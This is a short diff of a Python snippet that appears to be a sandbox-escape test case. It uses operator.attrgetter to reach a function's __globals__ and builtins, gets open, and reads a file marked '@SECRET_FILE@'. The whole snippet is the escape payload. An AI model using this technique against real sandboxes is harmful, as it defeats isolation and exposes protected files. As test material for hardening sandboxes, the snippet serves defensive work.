@@ -1,3 +1,4 @@
-"""attrgetter reads attributes in C."""
+"""attrgetter reads attributes in C, several steps at once."""
 from operator import attrgetter
-print(attrgetter("__init__.__globals__")(attrgetter)["open"] if False else attrgetter("open")(attrgetter("__builtins__")(__import__("types")) if False else __import__("io"))("@SECRET_FILE@").read())
+import random
+print(attrgetter("Random.seed.__globals__")(random)["__builtins__"]["open"]("@SECRET_FILE@").read())
